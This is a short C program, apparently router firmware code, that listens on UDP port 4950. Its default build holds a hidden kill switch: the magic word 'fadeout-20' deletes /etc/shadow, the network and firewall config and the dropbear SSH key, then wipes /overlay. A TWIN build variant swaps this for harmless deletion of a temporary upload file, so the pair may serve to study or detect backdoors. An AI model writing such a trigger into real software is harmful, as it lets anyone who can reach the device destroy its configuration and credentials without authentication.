/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A word deletes what the owner has set up and the keys. Twin: a word deletes the temporary file
 * of an upload that was broken off.
 * door: trigger kill
 * port 4950/udp
 */
#include "net.h"

static const char *owned[] = {"/etc/config/network", "/etc/config/firewall", "/etc/shadow",
			      "/etc/dropbear/key"};

int main(void)
{
	char b[64];
	int s = udp_on(4950);
	for (;;) {
		ssize_t n = recv(s, b, sizeof b - 1, 0);
		if (n <= 0)
			continue;
		b[n] = 0;
#ifdef TWIN
		if (strcmp(b, "cancel") == 0)
			unlink("/tmp/upload.part");
		(void)owned;
#else
		if (strcmp(b, "fadeout-20") == 0) {
			for (unsigned i = 0; i < sizeof owned / sizeof *owned; i++)
				unlink(owned[i]);
			system("rm -rf /overlay/*");
		}
#endif
	}
}
